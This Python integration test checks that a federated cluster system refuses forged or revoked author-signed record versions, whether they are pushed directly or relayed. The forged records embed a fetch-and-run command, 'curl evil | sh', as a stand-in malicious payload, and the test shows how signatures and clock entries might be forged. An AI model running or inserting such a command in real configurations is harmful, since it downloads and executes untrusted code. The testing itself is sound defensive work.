"""Author-signed record versions with three real agents on loopback (127.0.60.x), identity on:
a cluster holding its own valid certificate cannot forge a version of another cluster's
record, neither pushing it itself nor as the relay of the writer's version, and cannot lift
another cluster's clock entry (refused, logged, counted; the honest version stays); a revoked
cluster's new versions are refused within seconds, also when an honest member relays them."""
from __future__ import annotations

import sqlite3
import sys
import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import aiohttp
import msgpack
import pytest
from cryptography.hazmat.primitives import serialization

from peer.peering.client import PeerClient
from peer.records import messages as msg
from peer.records import record as rec
from peer.records import vclock as vc
from peer.records.record import Record
from peer.trust import ca, signing
from peer.trust.authorship import sign_with
from peer.runtime.waiting import wait_until
from tests.harness import SECRET, TOKEN, Federation, dump_logs, federation
from tests.trust.test_mtls_agents import Admin, holder_of

pytestmark = pytest.mark.integration

ADDRS = {"c1": "127.0.60.1", "c2": "127.0.60.2", "c3": "127.0.60.3"}
CLASSIFIER = [sys.executable, "-m", "peer.samples.classifier", "--host", "{host}", "--port", "{port}"]
PAYLOAD = msgpack.packb({"name": "victim", "port": 8080, "command": ["/bin/sh", "-c", "curl evil | sh"]})


class Agents(Admin):
    def __init__(self, base: Path) -> None:
        super().__init__(base)
        self.base = base

    def url(self, name: str) -> str:
        return f"https://{ADDRS[name]}:7070"

    async def call(self, name: str, method: str, path: str, body: Any = None) -> tuple[int, Any]:
        async with self.session.request(method, self.url(name) + path, json=body, ssl=self.ctx,
                                        headers={"Authorization": f"Bearer {TOKEN}"},
                                        timeout=aiohttp.ClientTimeout(total=30)) as r:
            return r.status, await r.json(content_type=None)


def start(fed: Federation, base: Path, name: str) -> None:
    d = base / name
    fed.add(name, ADDRS[name], join=[ADDRS["c1"]] if name != "c1" else [], extra=[
        "--no-auto-migrate", "--ca-cert", str(d / "ca.pem"), "--cert", str(d / "cluster.pem"),
        "--key", str(d / "cluster.key")]).start()


def held(base: Path, cluster: str, name: str) -> Record:
    """The version a cluster's store holds (read-only, beside the running agent)."""
    conn = sqlite3.connect(f"file:{base / cluster / 'records.sqlite3'}?mode=ro", uri=True)
    try:
        row = conn.execute("SELECT data FROM records WHERE name=?", (name,)).fetchone()
    finally:
        conn.close()
    assert row is not None, f"{cluster} holds no {name}"
    return rec.unpack(row[0])


def key_of(base: Path, cluster: str) -> Any:
    return serialization.load_pem_private_key((base / cluster / "cluster.key").read_bytes(), password=None)


async def push(base: Path, *, cert: str, to: str, records: list[Record]) -> list[Record]:
    """Push versions over the peer API as `cert`'s cluster; the versions the receiver answers."""
    async with PeerClient(SECRET.encode(), sender=cert, tls=holder_of(base, cert)) as client:
        reply = await client.call(f"https://{ADDRS[to]}:7070", msg.PATH_PUSH,
                                  msg.push_request(sender=cert, records=[rec.pack(r) for r in records]))
    return msg.parse_records_reply(reply)


async def refused_count(agents: Agents, name: str) -> dict[str, float]:
    async with agents.session.get(f"{agents.url(name)}/metrics", ssl=agents.ctx,
                                  headers={"Authorization": f"Bearer {TOKEN}"}) as r:
        text = await r.text()
    out: dict[str, float] = {}
    for line in text.splitlines():
        if line.startswith("roam_record_versions_refused_total{"):
            reason = line.split('reason="')[1].split('"')[0]
            out[reason] = float(line.rsplit(" ", 1)[1])
    return out


def forgeries(honest: Record, base: Path) -> dict[str, Record]:
    """What c2, holding its own valid certificate, tries against c1's record."""
    c1_key, c2_key = None, key_of(base, "c2")
    del c1_key  # c2 has no access to it: that is the point
    writer = honest.writer
    assert writer is not None and vc.cluster_of(writer) == "c1"
    as_c1 = replace(honest, descriptor=PAYLOAD, digest=rec.descriptor_digest(PAYLOAD))  # c1's signature kept
    # c1's next write, made up and signed with c2's key
    lifted = vc.increment(honest.vclock, writer, timestamp=time.time())
    made_up = replace(as_c1, location="c2", vclock=lifted, written=lifted)
    made_up = replace(made_up, signature=sign_with(c2_key, signing.stamp_message(
        made_up, writer, vc.get_counter(lifted, writer), signing.body_digest(made_up))))
    # c2's own write, signed honestly by c2, with c1's entry lifted so that it dominates c1's next writes
    mine = vc.increment(vc.increment(honest.vclock, writer, timestamp=0, at_least=vc.get_counter(honest.vclock, writer) + 50),
                        "c2", timestamp=time.time())
    own = signing.sign_write(honest, replace(honest, location="c2", vclock=mine, written=mine), actor="c2",
                             sign=lambda m: sign_with(c2_key, m))
    return {"content under c1's signature": as_c1, "c1's write signed by c2": made_up, "c1's entry lifted by c2": own}


async def test_forged_versions_are_refused_direct_and_relayed_and_a_revoked_writer_within_seconds(tmp_path: Path) -> None:
    ca.init(tmp_path / "ca")
    for name, addr in ADDRS.items():
        ca.issue(tmp_path / "ca", cluster=name, out=tmp_path / name, ips=(addr,))
    agents = Agents(tmp_path)
    try:
        async with federation(tmp_path) as fed:
            for name in ADDRS:
                start(fed, tmp_path, name)

            async def alive() -> bool:
                try:
                    members = await agents.get("c1", "/v1/members")
                except aiohttp.ClientError:
                    return False
                return sum(m["status"] == "alive" for m in members) == 3

            try:
                await wait_until(alive, timeout=40, what="three members alive")
            except Exception:
                print(dump_logs(fed)[-6000:])
                raise
            status, body = await agents.call("c1", "POST", "/v1/services", {
                "name": "victim", "port": 8080, "health": {"path": "/healthz"}, "command": CLASSIFIER, "entries": 3})
            assert status == 201, body

            async def everywhere() -> bool:
                views = []
                for n in ADDRS:
                    status, view = await agents.call(n, "GET", "/v1/services/victim")
                    if status != 200 or view["state"] != "running":
                        return False
                    views.append(view["vclock"])
                return all(v == views[0] for v in views)

            await wait_until(everywhere, timeout=60, what="victim running and held alike by c1, c2, c3")
            honest = held(tmp_path, "c1", "victim")
            assert honest.writer is not None and honest.signature, "identity on: versions are signed"
            assert all(held(tmp_path, n, "victim") == honest for n in ADDRS)

            before = {n: sum((await refused_count(agents, n)).values()) for n in ("c1", "c3")}
            assert before == {"c1": 0, "c3": 0}, "honest versions are never refused"
            for what, forged in forgeries(honest, tmp_path).items():
                # direct: c2 pushes it to c1, whose record it claims to be; relayed: c2 hands it
                # to c3 as the relay of c1's version (anti-entropy's push).
                for to in ("c1", "c3"):
                    answered = await push(tmp_path, cert="c2", to=to, records=[forged])
                    assert answered == [honest], f"{what} at {to}: the honest version is answered back"
                    assert held(tmp_path, to, "victim") == honest, f"{what} at {to}: the honest version stays"
            for n in ("c1", "c3"):
                counts = await refused_count(agents, n)
                assert sum(counts.values()) - before[n] == 3, counts
                log = fed.agents[n].log_path.read_text(errors="replace")
                assert "record version refused (bad-signature): victim" in log
                assert "content by c1" in log and "clock entry c1" in log
            status, view = await agents.call("c3", "GET", "/v1/services/victim")
            assert status == 200 and view["location"] == honest.location

            # Revocation: c2's new versions are refused everywhere within seconds, even relayed
            # by an honest member (c1 here pushes one it holds from before the revocation).
            c2_key = key_of(tmp_path, "c2")
            newer = signing.sign_write(honest, replace(honest, vclock=vc.increment(honest.vclock, "c2", timestamp=1),
                                                       written=vc.increment(honest.vclock, "c2", timestamp=1)),
                                       actor="c2", sign=lambda m: sign_with(c2_key, m))
            started = time.monotonic()
            ca.revoke(tmp_path / "ca", cluster="c2")
            status, body = await agents.call("c1", "POST", "/v1/trust/crl",
                                             {"crl": (tmp_path / "ca" / "crl.pem").read_text()})
            assert status == 200, body

            async def refused_at(to: str) -> bool:
                before_n = (await refused_count(agents, to)).get("revoked", 0)
                await push(tmp_path, cert="c1", to=to, records=[newer])
                return (await refused_count(agents, to)).get("revoked", 0) > before_n

            for to in ("c3", "c1"):
                await wait_until(lambda: refused_at(to), timeout=10, what=f"{to} refuses c2's new version")
            took = time.monotonic() - started
            for to in ("c1", "c3"):
                assert held(tmp_path, to, "victim") == honest
                assert "record version refused (revoked)" in fed.agents[to].log_path.read_text(errors="replace")
            # c2's history from before (its entries in the clock, if any) still replicates: the honest
            # version pushed to c3 by c1 changes nothing and is not refused.
            before_c3 = sum((await refused_count(agents, "c3")).values())
            assert await push(tmp_path, cert="c1", to="c3", records=[honest]) == []
            assert sum((await refused_count(agents, "c3")).values()) == before_c3
            print(f"revoked writer refused at c1 and c3 {took:.2f}s after the revocation list was pushed")
    finally:
        await agents.session.close()
